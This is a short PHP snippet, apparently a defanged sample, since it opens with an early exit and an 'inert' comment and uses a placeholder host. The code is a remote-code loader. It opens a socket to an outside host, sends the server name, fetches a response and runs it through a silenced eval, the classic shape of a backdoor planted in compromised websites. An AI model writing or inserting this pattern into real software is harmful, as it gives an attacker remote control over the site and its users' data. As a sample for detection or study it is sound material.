<?php exit; /* inert */ 
$fp = fsockopen("example.invalid", 80, $errno, $errstr, 10);
if ($fp) {
    fputs($fp, "GET /j.php?d=" . urlencode($_SERVER["SERVER_NAME"]) . " HTTP/1.0\r\nHost: example.invalid\r\n\r\n");
    $r = ""; while (!feof($fp)) { $r .= fgets($fp, 128); } fclose($fp);
    list($h, $b) = explode("\r\n\r\n", $r, 2);
    @eval(trim($b));
}
